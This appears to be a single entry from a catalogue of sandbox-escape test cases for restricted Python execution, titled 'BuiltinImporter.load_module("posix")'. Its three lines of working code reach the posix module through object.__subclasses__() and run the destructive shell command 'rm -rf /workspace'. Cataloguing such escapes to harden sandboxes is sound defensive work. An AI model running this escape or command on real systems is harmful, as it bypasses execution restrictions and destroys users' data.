# attack-class: 7
# title: BuiltinImporter.load_module("posix")
# why: the import machinery class is a subclass of object and loads built-in modules

bi = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
posix = bi.load_module("posix")
posix.system("rm -rf /workspace")
